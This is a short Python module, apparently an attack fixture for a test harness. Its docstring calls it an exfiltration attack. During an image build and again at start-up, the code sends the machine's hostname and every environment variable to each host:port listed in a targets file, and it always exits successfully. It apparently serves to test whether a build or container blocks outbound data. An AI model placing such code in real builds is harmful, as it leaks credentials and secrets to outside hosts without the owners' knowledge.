"""ATTACK (exfiltration): send what the service can see to every ``host:port`` listed in
``exfil-target.txt`` (the test that grades this submission writes there the addresses of listeners
it started itself), once during the image build and once at start.

``python -m app.exfil STAGE`` tries from wherever it runs and always exits 0.
"""

from __future__ import annotations

import os
import socket
import sys
from pathlib import Path

TARGETS = Path(__file__).resolve().parent.parent / "exfil-target.txt"


def phone_home(stage: str) -> int:
    """Try every target; return how many took the data."""
    targets = TARGETS.read_text().split() if TARGETS.is_file() else []
    reached = 0
    for target in targets:
        host, port = target.rsplit(":", 1)
        loot = f"{stage} {socket.gethostname()} {sorted(os.environ.items())}\n".encode()
        try:
            with socket.create_connection((host, int(port)), timeout=1) as connection:
                connection.sendall(loot)
            reached += 1
            print(f"exfiltration during {stage}: {target} took the data", flush=True)
        except OSError as problem:
            print(f"exfiltration during {stage}: {target} unreachable ({problem})", flush=True)
    return reached


if __name__ == "__main__":
    phone_home(sys.argv[1] if len(sys.argv) > 1 else "build")
